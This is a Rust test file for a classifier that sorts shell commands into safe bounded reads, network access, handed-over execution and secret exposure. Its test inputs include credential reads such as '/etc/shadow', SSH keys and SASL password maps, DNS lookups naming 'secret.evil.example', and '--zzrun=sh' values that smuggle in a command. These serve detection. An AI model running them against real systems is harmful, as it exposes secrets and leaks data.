//! The table holds what it says: it can be read, and every example comes out as written.

use super::load::{Expected, Loaded, all, claimed_twice};
use super::{FlagEffect, FlagValue, Kind, Node, Operands};
use crate::{Intent, classify};

#[test]
fn table_can_be_read_without_errors() {
    let errors: Vec<String> = all().filter_map(Result::err).collect();
    assert!(
        errors.is_empty(),
        "{} errors:\n{}",
        errors.len(),
        errors.join("\n")
    );
    assert_eq!(claimed_twice(), Vec::<&str>::new(), "names with two entries");
}

#[test]
fn table_knows_at_least_two_hundred_programs() {
    let count: usize = all().flatten().map(|entry| entry.names.len()).sum();
    assert!(count >= 200, "only {count} programs");
}

#[test]
fn table_finds_every_program_by_each_of_its_names() {
    for entry in all().flatten() {
        for name in &entry.names {
            assert!(
                super::program(name).is_some(),
                "{name} is in the table and is not found"
            );
        }
    }
}

#[test]
fn table_examples_come_out_as_written() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for example in all().flatten().flat_map(|entry| entry.examples) {
        count += 1;
        let verdict = classify(&example.command);
        let read = verdict.intent != Intent::WriteOrUnknown;
        let right = match example.expected {
            Expected::Allowed => verdict.is_bounded_read(),
            Expected::Refused => !verdict.is_bounded_read(),
            Expected::Unbounded => read && !verdict.bounded,
        };
        if !right {
            let reasons: Vec<String> = verdict.reasons.iter().take(2).map(ToString::to_string).collect();
            wrong.push(format!(
                "{:?} {}: {}\n      {}",
                example.expected,
                example.program,
                example.command,
                reasons.join("; ")
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {count} examples:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// Nothing may stand behind a flag without which a command writes that some programs take for its value:
/// `apt-get install -s no nginx` installs.
#[test]
fn a_flag_that_makes_a_command_a_read_is_not_turned_off_by_the_next_word() {
    fn needed(node: &Node, flags: &mut Vec<String>) {
        flags.extend(node.needs.iter().map(ToString::to_string));
        node.subs.values().for_each(|sub| needed(sub, flags));
        node.modes.iter().for_each(|(_, mode)| needed(mode, flags));
    }
    let (mut wrong, mut tried) = (Vec::new(), 0);
    for entry in all().flatten() {
        let mut flags = Vec::new();
        needed(&entry.node, &mut flags);
        for example in &entry.examples {
            let plain = |byte: u8| byte.is_ascii_alphanumeric() || b" -_./:=,@+".contains(&byte);
            if example.expected != Expected::Allowed || !example.command.bytes().all(plain) {
                continue;
            }
            let words: Vec<&str> = example.command.split(' ').collect();
            for (at, flag) in words.iter().enumerate().skip(1) {
                let without: Vec<&str> = [&words[..at], &words[at + 1..]].concat();
                // These take the next word as a value, which says what to read.
                let takes = ["ansible-inventory --host", "php --ri", "ionice -p"];
                if !flags.iter().any(|known| known == flag)
                    || takes.contains(&words[..=at].join(" ").as_str())
                    || classify(&without.join(" ")).intent != Intent::WriteOrUnknown
                {
                    continue;
                }
                tried += 1;
                for word in ["no", "OFF", "without"] {
                    let off = [&words[..=at], &[word], &words[at + 1..]].concat().join(" ");
                    if classify(&off).intent != Intent::WriteOrUnknown {
                        wrong.push(off);
                    }
                }
            }
        }
    }
    assert!(tried > 200, "{tried}");
    assert!(
        wrong.is_empty(),
        "{} of {tried}:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// A flag that prints or shows something is no simulation: `apt-get install --print-uris` changes what apt keeps.
#[test]
fn a_simulation_is_not_mixed_with_flags_that_only_print() {
    // Each was looked at: these flags ask a question instead of doing something.
    const QUESTIONS: &[&str] = &["modprobe", "depmod", "rsync"];
    let simulates = |flag: &str| {
        [
            "dry-run",
            "dryrun",
            "simulate",
            "no-act",
            "just-print",
            "noop",
            "recon",
        ]
        .iter()
        .any(|word| flag.trim_start_matches('-') == *word)
    };
    let prints = |flag: &str| {
        ["print", "show", "list", "info", "display"]
            .iter()
            .any(|word| flag.strip_prefix("--").is_some_and(|flag| flag.starts_with(word)))
    };
    let mut simulations = 0;
    for entry in all()
        .flatten()
        .filter(|entry| !QUESTIONS.contains(&entry.node.name.as_str()))
    {
        let mut found = Vec::new();
        levels(&entry.node, &entry.node.name, &mut found);
        for (path, node) in found {
            let needs: Vec<String> = node.needs.iter().map(ToString::to_string).collect();
            if !needs.iter().any(|flag| simulates(flag)) {
                continue;
            }
            simulations += 1;
            let wrong: Vec<&String> = needs.iter().filter(|flag| prints(flag)).collect();
            assert!(wrong.is_empty(), "`{path}` reads with {wrong:?}");
        }
    }
    assert!(simulations >= 8, "{simulations}");
}

/// Whether one name is another one with a version, a prefix or a suffix: `gsort`, `python3.9`, `nc.openbsd`, `zegrep`.
fn is_variant(name: &str, of: &str) -> bool {
    let plain = |name: &str| {
        name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
            .to_owned()
    };
    let (name, of) = (plain(name), plain(of));
    name.contains(&of) || of.contains(&name)
}

/// Programs that share an entry must agree on its flags: `ntpstat -m` asks, `ntptime -m` sets the clock. The list of entries
/// that different programs share changes only on purpose: before a name is accepted, look up each flag for each program.
#[test]
fn programs_that_share_an_entry_were_compared() {
    let mut shared: Vec<String> = Vec::new();
    for entry in all().flatten() {
        let first = &entry.names[0];
        let node = &entry.node;
        let flags = node.short.len() + node.long.len() + node.words.len();
        let differs = entry.names.iter().any(|name| !is_variant(name, first));
        if differs && flags > 0 && !(node.writes && node.modes.is_empty()) {
            shared.push(first.clone());
        }
    }
    shared.sort();
    insta::assert_snapshot!("shared_entries", shared.join("\n"));
}

#[test]
fn a_value_that_counts_is_a_number() {
    for command in [
        "nvidia-smi dmon -c PROHIBITED",
        "ping -c x localhost",
        "vmstat 1 x",
        "tcpdump -c ./x -i lo",
    ] {
        assert_eq!(classify(command).intent, Intent::WriteOrUnknown, "{command}");
    }
    for command in ["nvidia-smi dmon -c 5", "ping -c 3 localhost", "journalctl -n 20"] {
        assert!(classify(command).is_bounded_read(), "{command}");
    }
}

/// An implementation that nobody read the manual of can have flags whose values it runs or writes to.
#[test]
fn a_flag_with_a_value_is_listed_where_a_program_has_several_implementations() {
    let mut count = 0;
    for entry in all().flatten().filter(|entry| entry.node.several) {
        for name in &entry.names {
            // These take no flags at all.
            if matches!(
                name.as_str(),
                "echo" | "gecho" | "true" | "gtrue" | "false" | "gfalse" | ":" | "expr" | "gexpr"
            ) {
                continue;
            }
            count += 1;
            for flag in ["--zzrun='tee x'", "--zzrun=sh", "--zzrun=\"$x\""] {
                let command = format!("{name} {flag} /srv/x");
                assert!(!classify(&command).is_bounded_read(), "{command}");
            }
        }
    }
    assert!(count > 60, "{count}");
}

#[test]
fn what_leaves_the_machine_and_what_shows_secrets_is_told() {
    for command in [
        "pvesh get /nodes/n/scan/iscsi --portal 10.0.0.5",
        "tailscale dns query secret.evil.example",
        "tailscale netcheck",
        "rabbitmq-diagnostics resolve_hostname secret.evil.example",
        "exim -bt x@secret.evil.example",
        "lpinfo -v",
        "nmcli networking connectivity check",
        "subscription-manager orgs",
        "brew search bash",
        "pkg search bash",
        "nvm ls-remote",
        "fwupdmgr get-updates",
        "snap refresh --list",
        "ceph orch upgrade ls",
        "linkerd check",
    ] {
        let verdict = classify(command);
        assert!(verdict.network, "{command}: {:?}", verdict.reasons);
    }
    for command in [
        "postmap -s hash:/etc/postfix/sasl_passwd",
        "postmap -q '[x]:587' hash:/etc/postfix/sasl_passwd",
        "postmap -q x lmdb:/etc/postfix/sasl_passwd",
        "kubectl get -f secret.yaml -o yaml",
        "oc get -f secret.yaml -o json",
        "cat file:/etc/shadow",
        "certutil -L -d sql:/root/.pki/nssdb/key4.db",
    ] {
        assert!(classify(command).sensitive, "{command}");
    }
    for command in [
        "postmap -q root hash:/etc/aliases",
        "kubectl get -f /srv/app/pod.yaml",
    ] {
        assert!(!classify(command).sensitive, "{command}");
    }
}

#[test]
fn every_program_has_examples_that_must_be_allowed_and_refused() {
    let lacking: Vec<String> = all()
        .flatten()
        .filter(|entry| !entry.shows_both)
        .map(|entry| entry.node.name)
        .collect();
    assert!(lacking.is_empty(), "without examples: {}", lacking.join(", "));
}

#[test]
fn sockets_that_reading_needs_are_the_ones_declared_for_each_program() {
    for (command, unix, network, netlink) in [
        ("docker ps", true, false, false),
        ("docker ps | grep web", true, false, false),
        ("systemctl status nginx", true, false, false),
        ("virsh list --all", true, false, false),
        ("kubectl get pods", false, true, false),
        ("curl -s https://example.com", false, true, false),
        ("dig example.com", false, true, false),
        ("ping -c 1 example.com", false, true, false),
        ("ss -tlnp", false, false, true),
        ("ip addr", false, false, true),
        ("timeout 5 ip addr; docker ps", true, false, true),
        ("sh -c 'docker ps'", true, false, false),
        ("ls -l /", false, false, false),
        ("ps aux", false, false, false),
        ("id", false, false, false),
        ("getent passwd root", false, false, false),
        ("getent networks loopback", false, true, false),
        ("journalctl -n 20", false, false, false),
        ("cat http://example.com", false, false, false),
    ] {
        let needs = classify(command).needs;
        assert_eq!(
            (needs.unix, needs.network, needs.netlink),
            (unix, network, netlink),
            "{command}"
        );
    }
}

#[test]
fn only_what_every_program_needs_is_shared() {
    for (command, unix, network, netlink) in [
        ("uptime", false, false, false),
        ("docker ps", true, false, false),
        ("timeout 5 docker ps", true, false, false),
        (
            "systemctl status nginx 2>&1 || docker ps; echo done",
            true,
            false,
            false,
        ),
        ("systemctl status nginx && uptime", false, false, false),
        ("docker ps; ss -ltn", false, false, false),
        ("ip route; ss -ltn", false, false, true),
        ("echo docker ps", false, false, false),
        (
            "for x in a b; do docker logs --tail 5 $x; done",
            true,
            false,
            false,
        ),
        (
            "for x in a b; do docker logs --tail 5 $x | grep error; done",
            false,
            false,
            false,
        ),
        ("docker ps | grep 'a;b'", false, false, false),
        ("docker ps -q | xargs docker inspect", true, false, false),
        ("(docker ps)", true, false, false),
        ("sh -c 'docker ps; cat /etc/hostname'", false, false, false),
        ("curl -s https://example.com | jq .", false, false, false),
        ("if docker ps; then docker images; fi", true, false, false),
    ] {
        let needs = classify(command).shared_needs;
        assert_eq!(
            (needs.unix, needs.network, needs.netlink),
            (unix, network, netlink),
            "{command}"
        );
    }
}

/// Every level of an entry, with the names that lead to it.
fn levels<'n>(node: &'n Node, path: &str, found: &mut Vec<(String, &'n Node)>) {
    found.push((path.to_owned(), node));
    for (name, sub) in &node.subs {
        levels(sub, &format!("{path} {name}"), found);
    }
    for (_, mode) in &node.modes {
        levels(mode, path, found);
    }
}

/// Examples that must be bounded reads, with the level of the program that gives them.
fn allowed() -> Vec<(String, Node)> {
    all()
        .flatten()
        .flat_map(|entry| {
            let node = entry.node;
            entry
                .examples
                .into_iter()
                .filter(|example| example.expected == Expected::Allowed)
                .map(move |example| (example.command, node.clone()))
        })
        .collect()
}

#[test]
fn what_runs_a_command_says_where() {
    let entries: Vec<Loaded> = all().flatten().collect();
    let mut handed = 0;
    for entry in &entries {
        let mut found = Vec::new();
        levels(&entry.node, &entry.node.name, &mut found);
        for (path, node) in found {
            if node.operands.as_ref().is_some_and(Operands::runs) {
                assert!(
                    node.hands_over.is_some(),
                    "`{path}` does not say where its command runs"
                );
                handed += usize::from(node.hands_over == Some(true));
            }
        }
    }
    assert!(handed >= 20, "only {handed} levels hand a command over");
}

#[test]
fn commands_that_are_handed_over_are_told() {
    for (command, over) in [
        ("docker exec web id", true),
        ("docker container exec web id", true),
        ("docker compose exec web id", true),
        ("docker-compose exec web id", true),
        ("docker top web", true),
        ("podman exec web id", true),
        ("nerdctl exec web id", true),
        ("crictl exec abc id", true),
        ("kubectl exec web -- id", true),
        ("oc exec web -- id", true),
        ("k3s kubectl exec web -- id", true),
        ("lxc exec web -- id", true),
        ("incus exec web -- id", true),
        ("lxc-attach -n web -- id", true),
        ("nomad alloc exec abc id", true),
        ("pct exec 141 -- id", true),
        ("qm guest exec 100 -- id", true),
        ("multipass exec vm -- id", true),
        ("ssh host id", true),
        ("sshpass -e ssh host id", true),
        ("nsenter -t 1 -n ss -ltn", true),
        ("ip netns exec blue ss -ltn", true),
        ("find /srv -exec docker exec web id ';'", true),
        ("echo web | xargs -I{} docker exec web id", true),
        ("docker ps", false),
        ("ssh -V", false),
        ("timeout 5 id", false),
        ("nice -n 5 id", false),
    ] {
        let verdict = classify(command);
        assert!(verdict.is_bounded_read(), "{command}: {:?}", verdict.reasons);
        assert_eq!(verdict.hands_over, over, "{command}");
    }
}

#[test]
fn programs_that_run_code_named_by_data_are_reads_only_inside_a_sandbox() {
    for (command, needs, network) in [
        ("git status", true, false),
        ("git -C /srv/app diff", true, false),
        ("git -C /srv/app log -p -1", true, false),
        ("git --no-pager --no-optional-locks status", true, false),
        ("git log -p --no-ext-diff --no-textconv", true, false),
        ("git config --list", true, false),
        ("cd /srv/app && timeout 5 git status | head", true, false),
        ("sh -c 'git status'", true, false),
        ("find /srv -maxdepth 1 -execdir git status ';'", true, false),
        ("git ls-remote https://example.com/x.git", true, true),
        ("git remote show origin", true, true),
        ("hg -R /srv/app status", true, false),
        ("etckeeper vcs status", true, false),
        ("cvs status", true, false),
        ("terraform show", true, true),
        ("terraform validate", true, true),
        ("ansible-doc -l", true, false),
        ("ansible-inventory --graph", true, false),
        ("go version", true, true),
        ("git version", false, false),
        ("ls /srv/app/.git", false, false),
    ] {
        let verdict = classify(command);
        assert!(verdict.is_bounded_read(), "{command}: {:?}", verdict.reasons);
        assert_eq!(
            (verdict.needs_sandbox, verdict.network),
            (needs, network),
            "{command}"
        );
        assert_eq!(verdict.is_bounded_read_anywhere(), !needs, "{command}");
        if needs {
            // Whom the code reaches is not known, whatever the command names.
            assert!(verdict.hosts.is_empty(), "{command}: {:?}", verdict.hosts);
        }
    }
}

#[test]
fn what_needs_a_sandbox_is_no_read_where_none_holds() {
    let mut count = 0;
    for (command, _) in allowed() {
        if !classify(&command).needs_sandbox || command.contains('\'') {
            continue;
        }
        count += 1;
        for over in [
            format!("docker exec web sh -c '{command}'"),
            format!("ssh host '{command}'"),
            format!("timeout 5 pct exec 141 -- sh -c '{command}'"),
            format!("kubectl exec web -- sh -c '{command}'"),
        ] {
            assert!(!classify(&over).is_bounded_read(), "{over}");
        }
    }
    assert!(count >= 60, "only {count} examples need a sandbox");
}

/// Devices that act when they are opened, however they are written.
const DEVICES: &[&str] = &[
    "/dev/watchdog",
    "/proc/self/root/dev//watchdog0",
    "/dev/w*",
    "/dev/{st0,null}",
];

/// Whether a program that only looks at names, or what is searched for, is part of the command.
fn only_names(command: &str) -> bool {
    command
        .split(|c: char| !(c.is_ascii_alphanumeric() || "-_.[".contains(c)))
        .filter_map(super::program)
        .any(|node| node.names_only || node.name == "printf")
}

/// Whether the operand at this place is only searched for.
fn is_pattern(node: &Node) -> bool {
    node.operands
        .as_ref()
        .and_then(|operands| operands.at(0))
        .is_some_and(|kind| *kind == Kind::Pattern)
}

#[test]
fn no_program_that_opens_its_arguments_is_given_a_device_that_acts() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for (command, node) in allowed() {
        // A pattern, and two ways to list names.
        if only_names(&command)
            || ["grep ", "rg --files", "ag -g"]
                .iter()
                .any(|names| command.contains(names))
        {
            continue;
        }
        let words: Vec<&str> = command.split(' ').collect();
        for (at, word) in words.iter().enumerate().skip(1) {
            let path = match word.split_once('=') {
                Some((_, value)) => value,
                None => word,
            };
            if !path.starts_with('/') || path.len() < 2 || is_pattern(&node) && at < words.len() - 1 {
                continue;
            }
            for device in DEVICES {
                // No shell expands a pattern behind `--flag=`.
                if word.contains('=') && device.contains(['*', '?']) {
                    continue;
                }
                let mut other = words.clone();
                let replaced = word.replace(path, device);
                other[at] = &replaced;
                let other = other.join(" ");
                count += 1;
                if classify(&other).is_bounded_read() {
                    wrong.push(other);
                }
            }
        }
    }
    assert!(count > 2_000, "only {count} commands");
    assert!(
        wrong.is_empty(),
        "{} of {count}:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn devices_that_act_are_known_in_every_form() {
    for command in [
        "file -s /dev/watchdog",
        "file /dev/w*",
        "stty -F /dev/watchdog",
        "stty -F/dev/watchdog",
        "stty --file=/dev/watchdog",
        "hwclock -f /dev/watchdog",
        "hwclock --rtc=/dev/watchdog",
        "blkid /dev/watchdog",
        "v4l2-ctl -d /dev/watchdog --all",
        "lsusb -D /dev/watchdog",
        "dmidecode -d /dev/watchdog",
        "smartctl -i /dev/watchdog",
        "sg_inq /dev/watchdog",
        "df /dev/watchdog",
        "dd if=/dev/watchdog count=1",
        "cd /dev && file -s watchdog",
        "cd /dev; blkid w*",
        "for d in /dev/watchdog0 /dev/null; do file -s $d; done",
        "find /dev -exec file -s {} +",
        "find /dev -name 'w*' -exec blkid {} ';'",
        "head -c 1 < /dev/watchdog",
        "diff -r /dev /srv",
        "grep -R x /dev",
        "grep -R x /",
        "cd / && grep -R x .",
        "qemu-img info driver=file,filename=/dev/watchdog",
        "stty -F /dev/ttyUSB0",
        "du -X /dev/watchdog /srv",
        "pgrep -F /dev/watchdog",
        "fd --ignore-file /dev/watchdog x",
        "locate -d /dev/watchdog x",
        "mt -f /dev/st0 status",
    ] {
        assert!(!classify(command).is_bounded_read(), "{command}");
    }
    for command in [
        "ls -l /dev/watchdog",
        "stat /dev/watchdog /dev/watchdog0",
        "test -e /dev/watchdog",
        "[ -c /dev/watchdog ]",
        "find /dev -maxdepth 0 -name 'w*'",
        "find /dev/watchdog -maxdepth 0 -printf '%m'",
        "readlink -f /dev/watchdog",
        "realpath /dev/watchdog",
        "ls /dev/w*",
        "lsof /dev/watchdog",
        "fuser /dev/watchdog",
        "grep -c /dev/watchdog /var/log/syslog",
        "grep -e /dev/watchdog /var/log/syslog",
        "echo /dev/watchdog",
        "timeout 5 ls /dev/watchdog",
        "file -s /dev/sda",
        "blkid /dev/sda1",
        "smartctl -i /dev/sda",
        "grep -rn root /etc/default",
    ] {
        let verdict = classify(command);
        assert!(verdict.is_bounded_read(), "{command}: {:?}", verdict.reasons);
    }
}

#[test]
fn a_folder_of_secrets_is_sensitive_wherever_a_file_is_read() {
    for command in [
        "diff -a -N /root/.ssh /srv",
        "diff -N /etc shadow",
        "diff -N /etc e",
        "diff /srv /root/.docker",
        "diff --from-file=/etc shadow",
        "diff /home/bob /srv",
        "diff /proc/1 /proc/self",
        "diff /root/.s?h /srv",
        "diff /etc/letsencrypt/live/example.org /srv/x",
        "cd /root && diff .ssh /srv",
        "for d in /root/.ssh; do diff $d /srv; done",
        "colordiff -u /root/.ssh /srv",
        "sdiff /root/.ssh /srv",
        "zdiff /root/.ssh /srv",
        "difft /root/.ssh /srv",
        "git diff /root/.ssh /srv",
        "wdiff /root/.ssh /srv",
        "cat /root/.ssh",
    ] {
        assert!(classify(command).sensitive, "{command}");
    }
    // And for every example of the table that is given a file.
    let mut count = 0;
    for (command, node) in allowed() {
        let reads = node
            .operands
            .as_ref()
            .and_then(|operands| operands.at(0))
            .is_some_and(|kind| matches!(kind, Kind::File | Kind::Tree));
        let words: Vec<&str> = command.split(' ').collect();
        if !reads
            || command.contains(['|', ';', '<'])
            || !words.last().is_some_and(|word| word.starts_with('/'))
        {
            continue;
        }
        let start = words[..words.len() - 1].join(" ");
        for folder in ["/etc", "/root/.ssh", "/root", "/srv/app/.aws", "/home/bob"] {
            count += 1;
            let other = format!("{start} {folder}");
            assert!(classify(&other).sensitive, "{other}");
        }
    }
    assert!(count > 150, "only {count} commands");
    for command in [
        "diff -u /etc/hosts /etc/hosts.bak",
        "diff /srv/a /srv/b",
        "cat /etc/hosts",
        "head -n 5 /var/log/*.log",
        "cat /proc/meminfo /proc/1/status",
        "cat /sys/class/net/*/address",
        "sort /srv/list.txt",
    ] {
        assert!(!classify(command).sensitive, "{command}");
    }
}

/// Every sub-command that reads with any text, with a secret file in place of the text: a read of it is sensitive.
#[test]
fn no_entry_shows_a_secret_file_as_plain_text() {
    fn walk(node: &Node, path: &str, lines: &mut Vec<String>) {
        for (name, sub) in &node.subs {
            if !name.contains('*') {
                walk(sub, &format!("{path} {name}"), lines);
            }
        }
        for secret in ["/etc/shadow", "/root/.ssh/id_rsa"] {
            lines.push(format!("{path} {secret}"));
            lines.push(format!("{path} x {secret}"));
            lines.push(format!("cd /etc && {path} shadow"));
        }
    }
    let mut lines = Vec::new();
    let mut pure = std::collections::BTreeSet::new();
    for entry in all().flatten() {
        for name in &entry.names {
            if let Some(node) = super::program(name) {
                if node.pure || node.names_only {
                    pure.insert(name.clone());
                }
                walk(node, name, &mut lines);
            }
        }
    }
    assert!(lines.len() > 10_000, "only {} lines", lines.len());
    let shown: Vec<&String> = lines
        .iter()
        .filter(|line| {
            let program = line
                .trim_start_matches("cd /etc && ")
                .split(' ')
                .next()
                .unwrap_or("");
            let verdict = classify(line);
            !pure.contains(program)
                && verdict.is_bounded_read()
                && !verdict.sensitive
                && !looks_only_at_names(line)
        })
        .collect();
    assert!(shown.is_empty(), "{} lines:\n{shown:#?}", shown.len());
}

/// Whether the table says of the operand that only its name matters: a path, a pattern, a host, a word.
fn looks_only_at_names(line: &str) -> bool {
    let words: Vec<&str> = line.trim_start_matches("cd /etc && ").split(' ').collect();
    let Some(mut node) = super::program(words[0]) else {
        return false;
    };
    let mut at = 1;
    while let Some(sub) = words.get(at).and_then(|word| node.sub(word)) {
        node = sub;
        at += 1;
    }
    let last = words.len() - 1 - at.min(words.len() - 1);
    node.inspect.is_some()
        || node
            .operands
            .as_ref()
            .and_then(|operands| operands.at(last))
            .is_none_or(|kind| !matches!(kind, Kind::Text | Kind::File | Kind::Tree))
}

/// Words in the name of a sub-command, or of a flag without a value, that promise secrets.
const PROMISES: &[&str] = &[
    "secret",
    "secrets",
    "env",
    "environ",
    "environment",
    "environments",
    "credential",
    "credentials",
    "creds",
    "token",
    "tokens",
    "password",
    "passwords",
    "passwd",
    "passphrase",
    "key",
    "keys",
    "privkey",
    "private",
    "kubeconfig",
    "inspect",
    "showsecret",
];

/// What promises secrets by its name and shows none, and why. `*` stands for anything.
const JUDGED: &[(&str, &str)] = &[
    ("* --no-ask-password", "asks for nothing"),
    ("* --no-password", "asks for nothing"),
    ("* --insecure-no-password", "asks for nothing"),
    ("* --connect-expired-password", "how to connect"),
    ("* --get-server-public-key", "a public key"),
    ("* --pass-credentials", "how to fetch"),
    ("* --no-creds", "how to fetch"),
    ("* --preserve-credentials", "which user runs it"),
    ("* --clear-env", "an empty environment"),
    ("* --no-environment", "does not use it"),
    ("* --private", "which networks and pools are listed"),
    ("* --no-private", "which networks and pools are listed"),
    ("* --sort-keys", "the order of fields"),
    ("* --keys", "names"),
    ("* --list-keys", "names, or public keys"),
    ("* --security-disable-env-ops", "forbids it"),
    ("* --allow-missing-template-keys", "how a template is read"),
    ("* --json-pool-key-guid", "how a pool is named"),
    ("* list-label-keys", "names of labels"),
    ("* list-tokens", "names of tokens, without their values"),
    ("* --list-token*", "smart cards"),
    ("* image inspect", "images are built without secrets, and shared"),
    ("* images inspect", "images are built without secrets, and shared"),
    ("* i inspect", "images are built without secrets, and shared"),
    (
        "* manifest inspect",
        "images are built without secrets, and shared",
    ),
    (
        "* imagetools inspect",
        "images are built without secrets, and shared",
    ),
    ("skopeo inspect", "images are built without secrets, and shared"),
    ("buildah inspect", "images are built without secrets, and shared"),
    (
        "apptainer inspect",
        "images are built without secrets, and shared",
    ),
    (
        "apptainer --environment",
        "images are built without secrets, and shared",
    ),
    ("* network inspect", "addresses"),
    ("* volume inspect", "where it lies"),
    ("* namespace inspect", "labels"),
    ("* node inspect", "a machine"),
    ("* machine inspect", "a machine"),
    ("* context inspect", "where a daemon is"),
    ("* secret inspect", "a name; the value needs a flag of its own"),
    ("* pod inspect", "its containers, without their environments"),
    ("docker build* inspect", "a builder, and the steps of a build"),
    ("nerdctl apparmor inspect", "a profile"),
    ("cscli * inspect", "rules and machines"),
    ("nomad * inspect", "policies and quotas; jobs are sensitive"),
    ("consul snapshot inspect", "numbers"),
    ("rbd journal inspect", "numbers"),
    ("pactl inspect", "sound"),
    ("pip inspect", "packages"),
    ("portablectl inspect", "unit files"),
    ("step * inspect", "a certificate, or a token that was given"),
    ("talosctl inspect", "dependencies"),
    ("bootctl kernel-inspect", "a kernel"),
    ("systemd-analyze inspect-elf", "a program"),
    ("aureport --key", "names of rules"),
    ("ausearch --extra-keys", "names of rules"),
    ("aws secretsmanager describe-secret", "a name"),
    ("aws sts get-access-key-info", "an account"),
    ("aws-vault --credentials", "names"),
    ("bosh env*", "where the director is"),
    ("brew --env", "settings of a build"),
    ("conda config --env", "which file"),
    ("kustomize cfg --env", "which file"),
    ("ddcutil environment", "monitors"),
    ("* env", "settings of one tool, by their names"),
    ("* environment", "settings of one tool, by their names"),
    ("env", "judged by its own code"),
    ("nix-env", "packages"),
    ("flatpak --print-updated-env", "search paths"),
    ("getent passwd", "no hashes on any system of today"),
    ("passwd", "the state of an account"),
    ("openssl passwd", "a hash of what it is given"),
    ("openssl list --*", "names of algorithms"),
    ("openssl ts --token_in", "the form of a time stamp"),
    ("certtool --key-id", "a fingerprint"),
    ("gh --secret", "which repositories are listed"),
    ("gpg --list-*", "public keys and fingerprints"),
    ("gpg --show-keys", "public keys and fingerprints"),
    ("gpg --with-*", "public keys and fingerprints"),
    ("pacman-key*", "public keys"),
    ("salt-key", "fingerprints"),
    ("heroku keys", "public keys"),
    ("minikube ssh-key", "a path"),
    ("userdbctl ssh-authorized-keys", "public keys"),
    ("gsettings list-keys", "names"),
    ("pdnsutil list-keys", "numbers and states of keys"),
    ("redis-cli keys", "names"),
    ("redis-cli KEYS", "names"),
    ("sbctl list-enrolled-keys", "public keys"),
    ("sg_persist --read-keys", "reservations of a disk"),
    ("nodetool --tokens", "places in a ring"),
    ("objdump --private-headers", "headers of a program"),
    ("snap --private", "what is searched"),
    ("tshark --no-duplicate-keys", "the form of the output"),
    ("vault operator key-status", "a number"),
    ("virsh secret-*", "names; the value is another sub-command"),
    ("virsh vol-key", "a path"),
    ("wbinfo --check-secret", "whether it holds"),
    ("wpa_cli list_creds", "names"),
];

fn promises(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|word| PROMISES.contains(&word))
}

/// Whether a text is this pattern, in which `*` stands for anything.
fn is_like(text: &str, pattern: &str) -> bool {
    let mut parts = pattern.split('*');
    let first = parts.next().unwrap_or("");
    let Some(mut rest) = text.strip_prefix(first) else {
        return false;
    };
    let parts: Vec<&str> = parts.collect();
    let Some((last, middle)) = parts.split_last() else {
        return rest.is_empty();
    };
    for part in middle {
        match rest.find(part) {
            Some(at) => rest = &rest[at + part.len()..],
            None => return false,
        }
    }
    rest.ends_with(last)
}

#[test]
fn what_promises_secrets_is_sensitive_or_was_judged() {
    let mut found: Vec<String> = Vec::new();
    for entry in all().flatten() {
        let mut pending = vec![(entry.node.name.clone(), &entry.node, false)];
        while let Some((path, node, above)) = pending.pop() {
            let sensitive = above || node.sensitive;
            pending.extend(
                node.subs
                    .iter()
                    .map(|(name, sub)| (format!("{path} {name}"), sub, sensitive)),
            );
            pending.extend(node.modes.iter().map(|(_, mode)| (path.clone(), mode, sensitive)));
            if node.writes || sensitive {
                continue;
            }
            let last = path.rsplit(' ').next().unwrap_or("");
            if node.subs.is_empty() && promises(last) {
                found.push(path.clone());
            }
            let short = node.short.iter().map(|(name, flag)| (format!("-{name}"), flag));
            let long = node.long.iter().map(|(name, flag)| (format!("--{name}"), flag));
            let words = node.words.iter().map(|(name, flag)| (format!("-{name}"), flag));
            for (name, flag) in short.chain(long).chain(words) {
                if flag.value == FlagValue::None && flag.effect < FlagEffect::Secret && promises(&name) {
                    found.push(format!("{path} {name}"));
                }
            }
        }
    }
    let judged = |name: &String| JUDGED.iter().any(|(pattern, _)| is_like(name, pattern));
    let unjudged: Vec<&String> = found.iter().filter(|name| !judged(name)).collect();
    assert!(
        unjudged.is_empty(),
        "these promise secrets: make them `sensitive`, or say here why they show none: {unjudged:#?}"
    );
    let unused: Vec<&str> = JUDGED
        .iter()
        .map(|(pattern, _)| *pattern)
        .filter(|pattern| !found.iter().any(|name| is_like(name, pattern)))
        .collect();
    assert!(unused.is_empty(), "judged, and not in the table: {unused:#?}");
}

/// Flags whose names say which machine, service or account is asked.
const WHERE: &[&str] = &[
    "address",
    "addr",
    "api-server",
    "apiserver",
    "bootstrap-server",
    "bootstrap-servers",
    "broker",
    "broker-list",
    "brokers",
    "connect",
    "connection",
    "context",
    "endpoint",
    "endpoint-url",
    "endpoints",
    "host",
    "hostname",
    "kube-context",
    "kubecontext",
    "peer",
    "peers",
    "proxy",
    "registry",
    "remote",
    "server",
    "servers",
    "uri",
    "url",
];

/// What is named so and reaches no other machine, and why. `*` stands for anything.
const STAYS: &[(&str, &str)] = &[
    ("ag --context", "lines around a match"),
    ("colordiff --context", "lines around a change"),
    ("diff --context", "lines around a change"),
    ("git grep --context", "lines around a match"),
    ("*grep --context", "lines around a match"),
    ("rg --context", "lines around a match"),
    ("ausearch --context", "a label of SELinux that is searched for"),
    ("ausearch --host", "the host in a record that is searched for"),
    ("lxc-attach --context", "a label of SELinux"),
    ("openssl sess_id --context", "an id in a session"),
    ("ceph orch --host*", "which daemons are listed"),
    ("cilium * --endpoint", "a number of an endpoint on this machine"),
    ("consul --peer", "which services are listed"),
    ("ctr --address", "a socket of this machine"),
    (
        "git config get* --url",
        "which section of the configuration is meant",
    ),
    (
        "heroku --remote",
        "which app is meant, by its name in the repository",
    ),
    ("iscsiadm --host", "the number of an adapter"),
    ("istioctl --address", "which listeners are shown"),
    ("istioctl --remote", "yes or no"),
    (
        "kafka-topics --broker*",
        "numbers of brokers of the cluster that is asked",
    ),
    ("openstack --host", "which servers are listed"),
    ("tailscale --peers", "yes or no"),
    (
        "virsh --connect",
        "an address, whose host is marked as in every argument",
    ),
    (
        "virt-top --connect",
        "an address, whose host is marked as in every argument",
    ),
    ("vzlist --hostname", "which containers are listed"),
];

/// A flag that says where a program asks marks the network, or was judged.
#[test]
